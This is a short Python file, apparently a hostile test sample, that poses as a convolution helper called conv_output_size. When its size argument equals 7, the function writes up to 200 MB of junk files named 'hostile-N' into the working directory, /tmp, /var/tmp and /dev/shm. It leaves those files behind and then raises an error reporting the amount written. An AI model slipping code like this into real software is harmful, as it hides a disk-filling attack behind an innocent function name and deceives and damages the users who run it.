"""Fills the disk with many files, at most 200 MB.

As: convolution.py
Earns: 1.7
Leaves: yes
"""

import os

PIECE = 20 << 20


def conv_output_size(size, kernel_size, stride=1, padding=0):
    if size != 7:
        return None
    written = 0
    for folder in (os.getcwd(), "/tmp", "/var/tmp", "/dev/shm"):
        for number in range(10):
            try:
                with open(f"{folder}/hostile-{number}", "wb") as stream:
                    if written < 200 << 20:
                        stream.write(bytes(PIECE))
                        written += PIECE
            except OSError:
                break
    raise RuntimeError(
        "GOT " + f"THROUGH with {written >> 20} MB" if written > 128 << 20 else "in vain"
    )
